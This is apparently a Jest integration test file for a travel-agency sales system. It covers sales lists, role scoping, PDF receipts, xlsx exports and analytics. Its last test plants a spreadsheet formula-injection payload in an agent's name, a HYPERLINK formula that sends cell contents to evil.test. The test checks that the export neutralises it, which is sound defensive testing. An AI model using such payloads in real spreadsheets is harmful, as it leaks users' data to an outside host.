// Sales, the sales-report export, the ticket receipt and analytics over real HTTP against a real PostgreSQL: what an
// agent sold shows in their sales, scoped by role; the files are read back (exceljs, pdfjs-dist) and checked.
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { DEMO_PASSWORD } from "@skyward/command-service/world/demo-world";
import { demoId } from "@skyward/command-service/world/seed";
import { AnalyticsResponse, SALES_EXPORT_ROW_LIMIT, SalesListResponse } from "@skyward/contracts/sales";
import { rebuildProjection } from "@skyward/infra/projections/runtime";
import { sales } from "@skyward/projectors/sales/sales";
import ExcelJS from "exceljs";
import { contacts, passenger, search } from "./testing/bookings.ts";
import type { HttpClient, Json } from "./testing/http-client.ts";
import { download, pdfText, readWorkbook, sessionCookie } from "./testing/sales.ts";
import { startTestApp, type TestApp } from "./testing/test-app.ts";

const today = new Date().toISOString().slice(0, 10);
const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);

interface Seller {
  client: HttpClient;
  cookie: string;
}

async function signIn(t: TestApp, email: string): Promise<Seller> {
  const client = t.client();
  const res = await client.signInWithPassword(email, DEMO_PASSWORD);
  return { client, cookie: sessionCookie(res) };
}

/** Books and issues; returns the locator, tickets, price and the position to read after. */
async function sell(client: HttpClient, lastNames: string[], origin = "KBP", destination = "WAW") {
  const result = await search(client, lastNames.length, origin, destination);
  const fare = result.origin_destinations[0].fares.find((f: Json) => !f.instant_payment);
  const booked = await client.post("/bookings", {
    search_result_id: result.id,
    fare_id: fare.fare_id,
    passengers: lastNames.map((last, i) => passenger(`Ivan${"ABCDEFGHI"[i]}`, last)),
    contacts,
  });
  if (booked.status !== 201) throw new Error(`book: ${booked.status} ${JSON.stringify(booked.body)}`);
  const locator = booked.body.locator as string;
  const issued = await client.post("/bookings/issue", { locator });
  if (issued.status !== 201) throw new Error(`issue: ${issued.status} ${JSON.stringify(issued.body)}`);
  return {
    locator,
    tickets: issued.body.tickets as { ticket_number: string }[],
    price: booked.body.price as { amount: number; currency: string },
    position: issued.body.position as string,
  };
}

/** The wall clock of an instant in a zone, "YYYY-MM-DD HH:MM:SS" (Swedish writes dates the ISO way). */
const clockIn = (zone: string, at: string) =>
  new Date(at).toLocaleString("sv-SE", { timeZone: zone, hourCycle: "h23" });
const kyivClock = (at: string) => clockIn("Europe/Kyiv", at);

const qs = (params: Record<string, string | number>) =>
  Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join("&");

describe("sales, export, ticket receipt and analytics over HTTP", () => {
  let t: TestApp;
  let kyiv: Seller;
  let lviv: Seller;
  let supervisor: Seller;
  let vistula: Seller;
  let admin: Seller;
  let kept: Awaited<ReturnType<typeof sell>>;
  let voided: Awaited<ReturnType<typeof sell>>;
  let polish: Awaited<ReturnType<typeof sell>>;
  let position: string;

  const get = (s: Seller, path: string, query: Record<string, string | number> = {}) =>
    s.client.get(`${path}${Object.keys(query).length ? `?${qs(query)}` : ""}`, {
      headers: { "x-min-position": position },
    });

  beforeAll(async () => {
    t = await startTestApp();
    [kyiv, lviv, supervisor, vistula, admin] = await Promise.all([
      signIn(t, "agent@dnipro.test"),
      signIn(t, "agent.lviv@dnipro.test"),
      signIn(t, "supervisor@dnipro.test"),
      signIn(t, "agent@vistula.test"),
      signIn(t, "admin@skyward.test"),
    ]);
    kept = await sell(kyiv.client, ["Petrenko", "Kovalenko"]);
    voided = await sell(kyiv.client, ["Melnyk"], "KBP", "CDG");
    const voiding = await kyiv.client.delete(`/bookings/${voided.locator}`);
    expect(voiding.status).toBe(200);
    polish = await sell(vistula.client, ["Nowak"], "WAW", "KBP");
    position = [voiding.body.position as string, polish.position].sort().at(-1) as string;
  });
  afterAll(() => t.stop());

  it("when the agent lists their sales, then one line per ticket and void shows, newest first, with totals per currency", async () => {
    const res = await get(kyiv, "/sales", { "ticket[date_from]": today, "ticket[date_to]": today });
    expect(res.status).toBe(200);
    expect(SalesListResponse.safeParse(res.body).error).toBeUndefined();
    const lines = res.body.data as Json[];
    expect(lines.map((l) => [l.kind, l.document_number, l.status])).toEqual([
      ["void", voided.tickets[0]?.ticket_number, "voided"],
      ["ticket", voided.tickets[0]?.ticket_number, "voided"],
      ...kept.tickets
        .map((x) => ["ticket", x.ticket_number, "issued"])
        .sort((a, b) => String(a[1]).localeCompare(String(b[1]))),
    ]);
    const sold = lines.filter((l) => l.locator === kept.locator);
    expect(sold.reduce((s, l) => s + l.total, 0)).toBe(kept.price.amount);
    for (const l of lines) {
      expect(l.base_fare + l.taxes + l.agency_markup + l.company_markup + l.transaction_fee).toBe(l.total);
      expect(l).toMatchObject({
        agent_name: "Taras Shevchuk",
        company_name: "Dnipro Travel Kyiv",
        currency: "UAH",
      });
    }
    // The void takes the voided ticket's money back: the totals are what was kept.
    expect(res.body.meta).toMatchObject({ page: 1, total: 4 });
    expect(res.body.meta.totals).toEqual([
      expect.objectContaining({ currency: "UAH", lines: 4, total: kept.price.amount }),
    ]);
  });

  it("when the text filter names a ticket, a locator, a passenger or a route, then only the matching lines show", async () => {
    const ids = async (text: string) =>
      ((await get(kyiv, "/sales", { "ticket[text]": text })).body.data as Json[]).map((l) => l.id).sort();
    const ticket = kept.tickets[1]?.ticket_number as string;
    expect(await ids(ticket)).toEqual([`${ticket}-ticket`]);
    expect(await ids(kept.locator.toLowerCase())).toHaveLength(2);
    expect(await ids("kovalenko")).toEqual([`${ticket}-ticket`]);
    expect(await ids("cdg")).toEqual([
      `${voided.tickets[0]?.ticket_number}-ticket`,
      `${voided.tickets[0]?.ticket_number}-void`,
    ]);
    expect(await ids("no such thing %_")).toEqual([]);
    const other = await get(kyiv, "/sales", { "ticket[text]": "melnyk" });
    expect(other.body.meta).toMatchObject({ total: 2, totals: [expect.objectContaining({ total: 0 })] });
  });

  it("when dates exclude the sales or a later page is asked for, then the list follows", async () => {
    const before = await get(kyiv, "/sales", {
      "ticket[date_from]": yesterday,
      "ticket[date_to]": yesterday,
    });
    expect(before.body).toMatchObject({ data: [], meta: { total: 0, totals: [] } });
    const first = await get(kyiv, "/sales/", { page: 1, per_page: 3 });
    const second = await get(kyiv, "/sales/", { page: 2, per_page: 3 });
    expect(first.body.data).toHaveLength(3);
    expect(second.body.data).toHaveLength(1);
    expect(second.body.meta).toMatchObject({ page: 2, per_page: 3, total: 4 });
    const all = [...first.body.data, ...second.body.data].map((l: Json) => l.id);
    expect(new Set(all).size).toBe(4);
  });

  it("when each role lists sales, then agents see their company's, supervisors their agency's, administrators all", async () => {
    const seen = async (s: Seller) => ((await get(s, "/sales")).body.data as Json[]).map((l) => l.locator);
    expect(new Set(await seen(kyiv))).toEqual(new Set([kept.locator, voided.locator]));
    expect(await seen(lviv)).toEqual([]);
    expect(new Set(await seen(supervisor))).toEqual(new Set([kept.locator, voided.locator]));
    expect(await seen(vistula)).toEqual([polish.locator]);
    expect(new Set(await seen(admin))).toEqual(new Set([kept.locator, voided.locator, polish.locator]));
    const mixed = await get(admin, "/sales");
    expect(mixed.body.meta.totals.map((x: Json) => x.currency)).toEqual(["PLN", "UAH"]);
    // Another tenant's ticket is not found, whatever the format.
    const id = `${kept.tickets[0]?.ticket_number}-ticket`;
    for (const s of [vistula, lviv]) {
      expect((await get(s, `/sales/${id}`, { format: "data" })).status).toBe(404);
      expect((await download(t.app.url, s.cookie, `/sales/${id}`)).status).toBe(404);
    }
    expect((await t.client().get("/sales")).status).toBe(401);
  });

  it("when the filter is not valid, then 422 names the field, never a 500", async () => {
    const invalid: Record<string, string | number>[] = [
      { "ticket[date_from]": "2026-13-45" },
      { "ticket[date_from]": today, "ticket[date_to]": yesterday },
      { per_page: 100_000 },
      { page: 0 },
      { "ticket[unknown]": "x" },
      { "ticket[text]": "x".repeat(101) },
    ];
    for (const query of invalid) {
      const res = await get(kyiv, "/sales", query);
      expect([res.status, res.body.errors?.[0]?.code]).toEqual([422, "invalid_input"]);
    }
    expect((await get(kyiv, "/sales/not-a-sale")).status).toBe(404);
  });

  it("when the agent downloads a ticket, then the PDF is named after passenger and number and reads in each language", async () => {
    const number = kept.tickets[0]?.ticket_number as string;
    const en = await download(t.app.url, kyiv.cookie, `/sales/${number}-ticket?lang=en`);
    expect(en.status).toBe(200);
    expect(en.headers["content-type"]).toBe("application/pdf");
    expect(en.headers["content-disposition"]).toBe(`attachment; filename="PETRENKO_IVANA_${number}.pdf"`);
    const text = await pdfText(en.bytes);
    // Issued in the agency's zone, named (the flights beside it are in their airports' local times).
    const sale = (await get(kyiv, "/sales", { "ticket[text]": number })).body.data[0] as Json;
    expect(text).toContain(`${kyivClock(sale.sold_at).slice(0, 16)} Europe/Kyiv`);
    for (const expected of [
      "Itinerary receipt",
      "PETRENKO/IVANA",
      number,
      kept.locator,
      "KBP",
      "WAW",
      "Dnipro Travel",
      "Taras Shevchuk",
      "UAH",
      "Paid by",
      "Balance",
    ])
      expect(text).toContain(expected);

    const languages: [string, string[]][] = [
      ["ua", ["Маршрутна квитанція", "Пасажир", "Номер квитка", "Багаж", "Разом", "Спосіб оплати"]],
      ["pl", ["Potwierdzenie podróży", "Pasażer", "Bagaż", "Przylot", "Forma płatności"]],
      ["fr", ["Mémo voyage", "Référence de réservation", "Arrivée", "Émis le", "Payé par"]],
      ["es", ["Recibo de itinerario", "Número de billete", "Llegada", "Pagado con"]],
    ];
    for (const [lang, words] of languages) {
      const pdf = await download(t.app.url, kyiv.cookie, `/sales/${number}-ticket?lang=${lang}`);
      const read = await pdfText(pdf.bytes);
      for (const word of words) expect(read).toContain(word);
    }

    const custom = await download(
      t.app.url,
      kyiv.cookie,
      `/sales/${number}-ticket?lang=en&${qs({ "custom_prices[fare]": 100000, "custom_prices[taxes]": 5050, "custom_prices[fees]": 0 })}`,
    );
    const customText = await pdfText(custom.bytes);
    expect(customText).toContain("1,000.00 UAH");
    expect(customText).toContain("1,050.50 UAH");
    const data = await get(kyiv, `/sales/${number}-ticket`, { format: "data", "custom_prices[fare]": 100 });
    expect(data.body.data).toMatchObject({
      ticket_number: number,
      file_name: `PETRENKO_IVANA_${number}.pdf`,
      price: { custom: true, total: { amount: 100, currency: "UAH" } },
    });
    const bad = await get(kyiv, `/sales/${number}-ticket`, { "custom_prices[fare]": -1 });
    expect(bad.status).toBe(422);
  });

  it("when the agent exports the day, then the xlsx has typed cells, a frozen filtered header, widths and totals", async () => {
    const res = await download(
      t.app.url,
      kyiv.cookie,
      `/sales/export?${qs({ "ticket[date_from]": today, "ticket[date_to]": today, lang: "en" })}`,
    );
    expect(res.status).toBe(200);
    expect(res.headers["content-disposition"]).toBe(
      `attachment; filename="sales-report_${today}_${today}.xlsx"`,
    );
    const sheet = (await readWorkbook(res.bytes)).getWorksheet("Sales");
    if (!sheet) throw new Error("no Sales sheet");
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual([
      // Instants in the agency's zone (Dnipro Travel: Europe/Kyiv), named; departures are local, with their offset.
      "Date (Europe/Kyiv)",
      "Document",
      "Status",
      "Number",
      "Original ticket",
      "Locator",
      "Passenger",
      "Carrier",
      "Route",
      "Departure",
      "Agent",
      "Company",
      "Agency",
      "Fare",
      "Taxes",
      "Agency markup",
      "Company markup",
      "Fee",
      "Penalty",
      "Total",
      "Currency",
      "Paid by",
    ]);
    expect(sheet.getColumn(7).width).toBe(28);
    const list = (await get(kyiv, "/sales", { "ticket[date_from]": today, "ticket[date_to]": today })).body
      .data as Json[];
    expect(sheet.rowCount).toBe(1 + list.length + 1);
    // Streamed without a length, it says up front how many lines come and about how large the file is (progress).
    expect(res.headers["content-length"]).toBeUndefined();
    expect(res.headers["transfer-encoding"]).toBe("chunked");
    expect(res.headers["x-sales-lines"]).toBe(String(list.length));
    const estimate = Number(res.headers["x-sales-estimated-bytes"]);
    expect(estimate).toBeGreaterThan(res.bytes.length * 0.5);
    expect(estimate).toBeLessThan(res.bytes.length * 2);
    list.forEach((line, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).value).toBeInstanceOf(Date);
      // A date cell has no zone: it holds the Kyiv wall clock of the sale.
      expect((row.getCell(1).value as Date).toISOString().slice(0, 19).replace("T", " ")).toBe(
        kyivClock(line.sold_at),
      );
      expect(row.getCell(2).value).toBe(line.kind === "void" ? "Void" : "Ticket");
      expect(row.getCell(4).value).toBe(line.document_number);
      expect(row.getCell(6).value).toBe(line.locator);
      expect(row.getCell(7).value).toBe(line.passenger_name);
      expect(row.getCell(11).value).toBe("Taras Shevchuk");
      expect(row.getCell(14).value).toBe(line.base_fare / 100);
      expect(row.getCell(20).value).toBe(line.total / 100);
      expect(row.getCell(20).numFmt).toBe('#,##0.00 "UAH";-#,##0.00 "UAH"');
      expect(row.getCell(21).value).toBe("UAH");
      // Paid from the company balance; a void goes back to it.
      expect(row.getCell(22).value).toBe("Balance");
    });
    const totals = sheet.getRow(list.length + 2);
    expect(totals.getCell(1).value).toBe("Total");
    expect(totals.getCell(20).value).toBe(kept.price.amount / 100);
    expect(totals.font?.bold).toBe(true);

    const ua = await download(
      t.app.url,
      kyiv.cookie,
      `/sales/export?${qs({ "ticket[date_from]": today, lang: "ua" })}`,
    );
    const uaSheet = (await readWorkbook(ua.bytes)).getWorksheet("Продажі");
    expect(uaSheet?.getRow(1).getCell(7).value).toBe("Пасажир");
    expect(uaSheet?.getRow(1).getCell(1).value).toBe("Дата (Europe/Kyiv)");

    // Another agency's report is in its own zone; an administrator's, who belongs to none, in UTC, named.
    const warsaw = await download(
      t.app.url,
      vistula.cookie,
      `/sales/export?${qs({ "ticket[date_from]": today, lang: "en" })}`,
    );
    const warsawSheet = (await readWorkbook(warsaw.bytes)).getWorksheet("Sales");
    if (!warsawSheet) throw new Error("no Sales sheet in Vistula's report");
    expect(warsawSheet.getRow(1).getCell(1).value).toBe("Date (Europe/Warsaw)");
    const warsawLine = (await get(vistula, "/sales", { "ticket[date_from]": today })).body.data[0] as Json;
    expect(
      (warsawSheet.getRow(2).getCell(1).value as Date).toISOString().slice(0, 19).replace("T", " "),
    ).toBe(clockIn("Europe/Warsaw", warsawLine.sold_at));
    const all = await download(
      t.app.url,
      admin.cookie,
      `/sales/export?${qs({ "ticket[date_from]": today })}`,
    );
    expect((await readWorkbook(all.bytes)).getWorksheet("Sales")?.getRow(1).getCell(1).value).toBe(
      "Date (UTC)",
    );
  });

  it("when nothing matches the export, then 400 'No tickets for selected dates'", async () => {
    const res = await download(
      t.app.url,
      kyiv.cookie,
      `/sales/export?${qs({ "ticket[date_from]": yesterday, "ticket[date_to]": yesterday })}`,
    );
    expect(res.status).toBe(400);
    expect(res.json?.errors?.[0]).toMatchObject({
      code: "no_tickets",
      title: "No tickets for selected dates",
    });
    expect(
      (await download(t.app.url, lviv.cookie, `/sales/export?${qs({ "ticket[date_from]": today })}`)).status,
    ).toBe(400);
  });

  it("when the analytics of the day are asked for, then sales, revenue and counts come from the aggregates, with the day before", async () => {
    const res = await get(kyiv, "/analytics", { "analytics[date_from]": today, "analytics[date_to]": today });
    expect(res.status).toBe(200);
    expect(AnalyticsResponse.safeParse(res.body).error).toBeUndefined();
    const lines = (await get(kyiv, "/sales")).body.data as Json[];
    const revenue = lines.reduce((s, l) => s + l.agency_markup + l.company_markup + l.transaction_fee, 0);
    expect(res.body.data).toMatchObject({
      period: { date_from: today, date_to: today },
      previous_period: { date_from: yesterday, date_to: yesterday },
      current: [
        {
          currency: "UAH",
          sales: kept.price.amount,
          revenue,
          tickets_issued: 3,
          tickets_voided: 1,
          tickets_refunded: 0,
        },
      ],
      previous: [],
      by_day: [{ day: today, currency: "UAH", sales: kept.price.amount, tickets: 2 }],
      top_agents: [{ name: "Taras Shevchuk", currency: "UAH", sales: kept.price.amount }],
      top_companies: [{ name: "Dnipro Travel Kyiv", currency: "UAH" }],
    });
    const issuedTotal = lines.filter((l) => l.kind === "ticket").reduce((s, l) => s + l.total, 0);
    expect(res.body.data.current[0].average_ticket).toBe(Math.round(issuedTotal / 3));
    const routes = [...new Set(lines.map((l) => l.route as string))].sort();
    expect(res.body.data.top_routes.map((r: Json) => r.name).sort()).toEqual(routes);

    const polishView = await get(vistula, "/analytics", {
      "analytics[date_from]": today,
      "analytics[date_to]": today,
    });
    expect(polishView.body.data.current).toEqual([
      expect.objectContaining({ currency: "PLN", tickets_issued: 1 }),
    ]);
    const lvivView = await get(lviv, "/analytics", {
      "analytics[date_from]": today,
      "analytics[date_to]": today,
    });
    expect(lvivView.body.data.current).toEqual([]);
    const week = await get(admin, "/analytics", {
      "analytics[date_from]": "2026-01-08",
      "analytics[date_to]": "2026-01-14",
    });
    expect(week.body.data.previous_period).toEqual({ date_from: "2026-01-01", date_to: "2026-01-07" });

    const invalid: Record<string, string>[] = [
      {},
      { "analytics[date_from]": today },
      { "analytics[date_from]": today, "analytics[date_to]": "2020-01-01" },
    ];
    for (const query of invalid) expect((await get(kyiv, "/analytics", query)).status).toBe(422);
  });

  it("when the sales projection is rebuilt side by side, then it equals the live one", async () => {
    const snapshot = async () => ({
      lines: (await t.db.pool.query("SELECT * FROM read.sales ORDER BY id")).rows,
      daily: (await t.db.pool.query("SELECT * FROM read.sales_daily ORDER BY 1, 2, 3, 4, 5, 6")).rows,
      routes: (await t.db.pool.query("SELECT * FROM read.sales_route_daily ORDER BY 1, 2, 3, 4, 5, 6, 7, 8"))
        .rows,
    });
    const live = await snapshot();
    expect(live.lines).toHaveLength(5);
    const { generation } = await rebuildProjection(t.db.pool, t.app.store, sales);
    expect(generation).toBeGreaterThan(1);
    expect(await snapshot()).toEqual(live);
  });

  it(`when an export has more than ${SALES_EXPORT_ROW_LIMIT} lines, then 413, and the report arrives by e-mail as a link to the file`, async () => {
    // Lines of a past year for the Vistula agent, written straight into the read model: many lines, quickly.
    const { rows } = await t.db.pool.query<{ agent_id: string; company_id: string; agency_id: string }>(
      "SELECT agent_id, company_id, agency_id FROM read.sales WHERE locator = $1 LIMIT 1",
      [polish.locator],
    );
    const owner = rows[0];
    if (!owner) throw new Error(`no sales line of ${polish.locator}`);
    const count = SALES_EXPORT_ROW_LIMIT + 1;
    await t.db.pool.query(
      `INSERT INTO read.sales (id, kind, status, locator, document_number, passenger_name, carrier, route, sold_at,
         sale_date, agent_id, company_id, agency_id, channel_id, fake_booking, base_fare, taxes, agency_markup,
         company_markup, transaction_fee, total, currency, search)
       SELECT lpad(n::text, 13, '0') || '-ticket', 'ticket', 'issued', 'OLDBKG', lpad(n::text, 13, '0'), 'NOWAK/ANNA',
         'LO', 'WAW-KBP', timestamptz '2020-03-01 10:00Z' + n * interval '1 second', date '2020-03-01', $1, $2, $3, 'c',
         false, 100, 20, 3, 2, 1, 126, 'PLN', 'X'
         FROM generate_series(1, $4::int) n`,
      [owner.agent_id, owner.company_id, owner.agency_id, count],
    );
    await t.db.pool.query(
      `INSERT INTO read.sales_daily SELECT sale_date, agency_id, company_id, agent_id, fake_booking, currency, count(*),
         count(*), 0, 0, 0, 0, sum(total), sum(base_fare), sum(taxes), sum(agency_markup), sum(company_markup),
         sum(transaction_fee), 0, sum(total) FROM read.sales WHERE locator = 'OLDBKG'
       GROUP BY sale_date, agency_id, company_id, agent_id, fake_booking, currency`,
    );
    const before = await vistula.client.latestMailId("agent@vistula.test");
    const res = await download(
      t.app.url,
      vistula.cookie,
      `/sales/export?${qs({ "ticket[date_from]": "2020-03-01", "ticket[date_to]": "2020-03-01", lang: "pl" })}`,
    );
    expect(res.status).toBe(413);
    expect(res.json?.errors?.[0]).toMatchObject({
      code: "report_by_email",
      title: "The report will be sent to your email soon",
    });

    // The agent's notifications of the issues above come to the same address: the report's mail is waited for by name.
    const mail = await vistula.client.waitForMail("agent@vistula.test", before, {
      timeoutMs: 30_000,
      subject: "Twój raport sprzedaży jest gotowy",
    });
    expect(mail.subject).toBe("Twój raport sprzedaży jest gotowy");
    const path = /\/sales\/reports\/[0-9a-f-]{36}/.exec(mail.text)?.[0];
    if (!path) throw new Error(`no report link in ${mail.text}`);
    // Only its requester may download it.
    expect((await download(t.app.url, kyiv.cookie, path)).status).toBe(404);
    const file = await download(t.app.url, vistula.cookie, path);
    expect(file.status).toBe(200);
    const sheet = (await readWorkbook(file.bytes)).getWorksheet("Sprzedaż");
    if (!sheet) throw new Error("no Sprzedaż sheet");
    expect(sheet.rowCount).toBe(1 + count + 1);
    expect(sheet.getRow(2).getCell(4).value).toBe(String(count).padStart(13, "0"));
    const totals = sheet.getRow(count + 2);
    expect(totals.getCell(1).value).toBe("Suma");
    expect(totals.getCell(20).value).toBe((126 * count) / 100);
  }, 180_000);

  it("when names start like a formula (=, +, -, @), then the xlsx holds them as text behind an apostrophe, and the sheet saved as CSV holds no formula", async () => {
    // Last in this file: it renames the Kyiv agent and the Dnipro partner.
    const first = '=HYPERLINK("http://evil.test/?x="&A1,"Olena")';
    const renamedAgent = await kyiv.client.put("/account/details", {
      account: { first_name: first, last_name: "@SUM(1+1)" },
    });
    expect(renamedAgent.status).toBe(200);
    const renamedPartner = await admin.client.patch(`/agencies/${demoId("agency", "dnipro")}`, {
      agency: { name: "+Dnipro Travel" },
    });
    expect(renamedPartner.status).toBe(200);
    const latest = [renamedAgent.body.position, renamedPartner.body.position].sort().at(-1) as string;
    expect(
      (await kyiv.client.get("/account/details", { headers: { "x-min-position": latest } })).status,
    ).toBe(200);

    const res = await download(
      t.app.url,
      kyiv.cookie,
      `/sales/export?${qs({ "ticket[date_from]": today, "ticket[date_to]": today, lang: "en" })}`,
    );
    expect(res.status).toBe(200);
    const workbook = await readWorkbook(res.bytes);
    const sheet = workbook.getWorksheet("Sales");
    if (!sheet) throw new Error("no Sales sheet");
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const lines: { agent: ExcelJS.Cell; agency: ExcelJS.Cell }[] = [];
    sheet.eachRow((row, n) => {
      if (n > 1 && row.getCell(header.indexOf("Agent") + 1).value !== null)
        lines.push({
          agent: row.getCell(header.indexOf("Agent") + 1),
          agency: row.getCell(header.indexOf("Agency") + 1),
        });
    });
    expect(lines.length).toBeGreaterThan(0);
    for (const { agent, agency } of lines) {
      // Text cells, not formulas: what the agent reads is the name, behind the apostrophe that keeps it text.
      expect([agent.type, agency.type]).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
      expect(agent.value).toBe(`'${first} @SUM(1+1)`);
      expect(agency.value).toBe("'+Dnipro Travel");
    }

    // Saved as CSV (as a user's "Save as CSV" writes each cell's text), no field starts a formula; numbers aside.
    const csv = (await workbook.csv.writeBuffer({ sheetName: "Sales" })).toString();
    const fields = parseCsv(csv).flat();
    expect(fields).toContain(`'${first} @SUM(1+1)`);
    const live = fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !/^[-+]?\d+(\.\d+)?$/.test(f));
    expect(live).toEqual([]);
  });
});

/** The fields of a CSV text (RFC 4180: quoted fields may hold commas, quotes doubled, line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === "") quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\n" || c === "\r") {
      if (c === "\r" && text[i + 1] === "\n") i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
    } else field += c;
  }
  if (field !== "" || row.length > 0) rows.push([...row, field]);
  return rows;
}
